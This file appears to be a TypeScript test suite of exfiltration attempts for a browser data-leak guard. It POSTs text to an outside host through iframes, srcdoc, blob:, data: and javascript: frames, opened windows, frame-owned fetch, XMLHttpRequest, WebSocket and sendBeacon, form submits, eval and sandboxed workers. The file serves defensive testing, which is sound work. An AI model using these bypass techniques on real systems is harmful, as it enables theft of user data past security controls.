/** Natives of other realms: frames of every kind, and windows. */
// A hostile page does what the linter forbids.
// oxlint-disable no-script-url, no-useless-escape, react/iframe-missing-sandbox
import { type Attempt, variants } from './attempt.ts';

/** A page that does what it is told: goes elsewhere and back, sends a text, or has a frame of its own send it. */
export const hostileFrame = `<!doctype html><body><script>
onmessage = ({ data: { go, back, text, to, frame } }) => {
  if (go) return void (location.href = go);
  if (back) return history.back();
  if (!frame) return void fetch(to, { method: 'POST', mode: 'no-cors', body: text });
  const inner = document.body.appendChild(document.createElement('iframe'));
  inner.onload = () => inner.contentWindow.postMessage({ text, to }, '*');
  inner.src = frame;
};
</script>`;

export const realms: readonly Attempt[] = [
  {
    name: 'realm: fetch of a fresh about:blank frame',
    reads: 'both',
    run: async ({ text, to }) => (await tools.frame('')).fetch(to, { method: 'POST', body: text }),
  },
  {
    name: 'realm: fetch of a frame that was written as markup',
    reads: 'both',
    run: ({ text, to }) => {
      document.body.innerHTML = '<iframe></iframe>';
      return (frames[0] as typeof window).fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: fetch of a srcdoc frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('', (frame) => {
        frame.srcdoc = '<p>hello</p>';
      });
      return view.fetch(to, { method: 'POST', body: text });
    },
  },
  ...variants(['blob:', 'data:', 'srcdoc', 'sandboxed srcdoc', 'javascript:'], (kind) => ({
    name: `realm: a script of a frame by ${kind}`,
    reads: 'both' as const,
    run: async ({ text, to, variant }) => {
      const script = `fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`;
      const markup = `<script>${script.replaceAll('</', '<\\/')}<\/script>`;
      if (variant === 'blob:') await tools.frame(URL.createObjectURL(new Blob([markup], { type: 'text/html' })));
      if (variant === 'data:') await tools.frame(`data:text/html;charset=utf-8,${encodeURIComponent(markup)}`);
      if (variant === 'javascript:')
        tools.element('iframe', { src: `javascript:${encodeURIComponent(`void ${script}`)}` });
      if (variant.endsWith('srcdoc')) {
        await tools.frame('', (frame) => {
          if (variant.startsWith('sandboxed')) frame.setAttribute('sandbox', 'allow-scripts');
          frame.srcdoc = markup;
        });
      }
      await tools.pause(200);
    },
  })),
  {
    name: 'realm: a frame whose document was opened anew',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      view.document.open();
      view.document.write('<p>hello</p>');
      view.document.close();
      return view.fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: this page’s own document opened anew',
    reads: 'both',
    run: ({ text, to }) => {
      document.open();
      document.write('<body>');
      document.close();
      return fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: a frame in a frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const outer = await tools.frame('');
      const inner = outer.document.body.appendChild(outer.document.createElement('iframe'));
      return (inner.contentWindow as typeof window).fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: a frame in a shadow root',
    reads: 'both',
    run: ({ text, to }) => {
      const root = tools.element('div', {}).attachShadow({ mode: 'closed' });
      const frame = root.appendChild(document.createElement('iframe'));
      return (frame.contentWindow as typeof window).fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: a window that was opened',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = window.open('about:blank') as typeof window;
      await view.fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'realm: XMLHttpRequest of a frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const request = new view.XMLHttpRequest();
      request.open('POST', to);
      request.send(text);
    },
  },
  {
    name: 'realm: send of a frame’s XMLHttpRequest on one of this page',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const request = new XMLHttpRequest();
      view.XMLHttpRequest.prototype.open.call(request, 'POST', to, true);
      view.XMLHttpRequest.prototype.send.call(request, text);
    },
  },
  {
    name: 'realm: WebSocket of a frame',
    reads: 'page',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const socket = new view.WebSocket(to.replace('http', 'ws'));
      await new Promise((resolve) => {
        socket.addEventListener('open', resolve);
      });
      socket.send(text);
      await tools.pause(300);
    },
  },
  {
    name: 'realm: sendBeacon of a frame',
    reads: 'both',
    run: async ({ text, to }) => (await tools.frame('')).navigator.sendBeacon(to, text),
  },
  {
    name: 'realm: submit of a frame on a form of this page',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      view.HTMLFormElement.prototype.submit.call(tools.form(to, text));
    },
  },
  {
    name: 'realm: eval in a frame',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      const { eval: evaluate } = view as unknown as { eval: (code: string) => unknown };
      return evaluate(`fetch(${JSON.stringify(to)}, { method: 'POST', body: ${JSON.stringify(text)} })`);
    },
  },
  ...variants(['no content', 'a download', 'nothing at all', 'another page, and back'], (kind) => ({
    name: `realm: a frame of another site, after a navigation to ${kind}`,
    reads: 'network' as const,
    run: async ({ text, to, elsewhere, variant }) => {
      const foreign = new URL('/hostile-frame.html', elsewhere).href;
      let view: Window = window;
      if (variant === 'another page, and back') {
        // In a window of its own: this one's scripts would end.
        view = window.open('/hostile-frame.html') as Window;
        await tools.pause(500);
        view.postMessage({ go: foreign }, '*');
        await tools.pause(500);
        view.postMessage({ back: true }, '*');
        await tools.pause(500);
        view.postMessage({ text, to: elsewhere, frame: foreign }, '*');
      } else {
        const address = { 'no content': '/no-content', 'a download': '/download', 'nothing at all': '/never' }[variant];
        location.href = new URL(address as string, elsewhere).href;
        await tools.pause(300);
        const frame = await tools.frame(foreign);
        frame.postMessage({ text, to: elsewhere }, '*');
      }
      void to;
      await tools.pause(700);
    },
  })),
  {
    name: 'realm: a sandboxed window’s worker',
    reads: 'network',
    run: async ({ text, elsewhere }) => {
      const work = `onmessage = ({ data: { text, to } }) => fetch(to, { method: 'POST', mode: 'no-cors', body: text })`;
      const script = `const view = open(); view.eval(${JSON.stringify(
        `new Worker('data:text/javascript,' + encodeURIComponent(${JSON.stringify(work)})).postMessage(${JSON.stringify({ text, to: elsewhere })})`,
      )})`;
      await tools.frame('', (frame) => {
        frame.setAttribute('sandbox', 'allow-scripts allow-popups allow-popups-to-escape-sandbox');
        frame.srcdoc = `<script>${script.replaceAll('</', '<\\/')}<\/script>`;
      });
      await tools.pause(700);
    },
  },
];
